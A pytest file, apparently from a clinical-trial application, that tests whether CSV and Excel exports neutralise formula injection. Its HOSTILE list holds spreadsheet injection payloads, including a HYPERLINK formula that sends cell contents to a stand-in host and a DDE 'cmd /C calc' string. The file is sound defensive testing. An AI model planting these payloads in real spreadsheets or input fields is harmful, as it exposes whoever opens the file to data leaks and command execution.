"""Every CSV and Excel export writes text that a spreadsheet would run (=, +, -, @, tab, CR) as inert text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from core.audit import AuditFilter, export_events_csv
from core.auth import authenticate
from core.catalogue.explorer import ExplorerFilter, export_trials
from core.db import session_scope
from core.errors import AuthenticationFailed
from core.inert_cells import FORMULA_PREFIXES, inert_cell, rows_to_csv
from core.insights import export_insights
from core.matching.service import list_matches
from core.models import ComparisonOutput, Draft
from core.prompt_lab.comparisons import ComparisonRequest, ItemRef, SideSpec
from core.prompt_lab.export import export_comparison
from core.prompting.store import seed_prompts
from core.tabular_export import export_table
from core.workflow.comparisons import start_comparison
from tests.support.flow import add_trials, case_with_drafts, make_trial

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_PREFIXES)


def _csv_cells(data: bytes | str) -> list[str]:
    text = data.decode() if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes) -> list[tuple[str | None, object]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_inert(csv_data: bytes | str, xlsx_data: bytes | None, needle: str) -> None:
    """No cell is live, and the hostile text is there (kept readable, behind an apostrophe)."""
    cells = _csv_cells(csv_data)
    assert [c for c in cells if _dangerous(c)] == []
    assert any(c == "'" + needle for c in cells), f"{needle!r} is missing from the CSV"
    if xlsx_data is not None:
        xcells = _xlsx_cells(xlsx_data)
        assert [v for t, v in xcells if t == "f"] == [], "a cell was stored as a formula"
        assert [v for t, v in xcells if isinstance(v, str) and _dangerous(v)] == []
        assert ("s", "'" + needle) in xcells


@pytest.mark.parametrize("text", HOSTILE)
def test_each_formula_prefix_is_neutralised(text):
    assert inert_cell(text) == "'" + text
    assert _csv_cells(rows_to_csv([[text]])) == ["'" + text]


def test_plain_values_are_kept_as_they_are():
    assert inert_cell("CD7 CAR-T") == "CD7 CAR-T"
    assert inert_cell(-3) == -3 and inert_cell(2.5) == 2.5 and inert_cell(None) is None and inert_cell(True) is True
    assert inert_cell(["=a", "b"]) == "'=a, b"
    table = export_table({"s": [["n", "t"], [-1, "x-1"]]}, "xlsx")
    assert ("n", -1) in _xlsx_cells(table) and ("s", "x-1") in _xlsx_cells(table)


def test_catalogue_export(team):
    add_trials(make_trial("NCT09000077", brief_title=HOSTILE[0], sponsor=HOSTILE[1]))
    flt = ExplorerFilter()
    assert_inert(export_trials(team.analyst, flt, "csv"), export_trials(team.analyst, flt, "xlsx"), HOSTILE[0])
    assert "'" + HOSTILE[1] in _csv_cells(export_trials(team.analyst, flt, "csv"))


def test_audit_export(team):
    with pytest.raises(AuthenticationFailed):
        authenticate(HOSTILE[1], "whatever")  # an unknown user name is audited as typed
    assert_inert(export_events_csv(team.admin, AuditFilter()), None, HOSTILE[1].lower())


def test_insights_export(team):
    case_with_drafts(team.reviewer)
    with session_scope() as s:
        s.execute(update(Draft).values(model=HOSTILE[2]))
    assert_inert(export_insights(team.analyst, "csv"), export_insights(team.analyst, "xlsx"), HOSTILE[2])


def test_comparison_export(team):
    seed_prompts()
    case_id, _ = case_with_drafts(team.reviewer)
    items = [ItemRef(case_id=case_id, trial_id=m.trial_id) for m in list_matches(team.reviewer, case_id) if m.status == "selected"]
    started = start_comparison(team.admin, ComparisonRequest(
        prompt_name="trial_summary", name="inert", left=SideSpec(version=1), right=SideSpec(version=1, model="m2"), items=items,
    ))
    with session_scope() as s:
        s.execute(update(ComparisonOutput).values(error=HOSTILE[4], model=HOSTILE[3]))
    csv_data = export_comparison(team.analyst, started.comparison_id)
    xlsx_data = export_comparison(team.analyst, started.comparison_id, "xlsx")
    assert_inert(csv_data, xlsx_data, HOSTILE[4])
    assert_inert(csv_data, xlsx_data, HOSTILE[3])
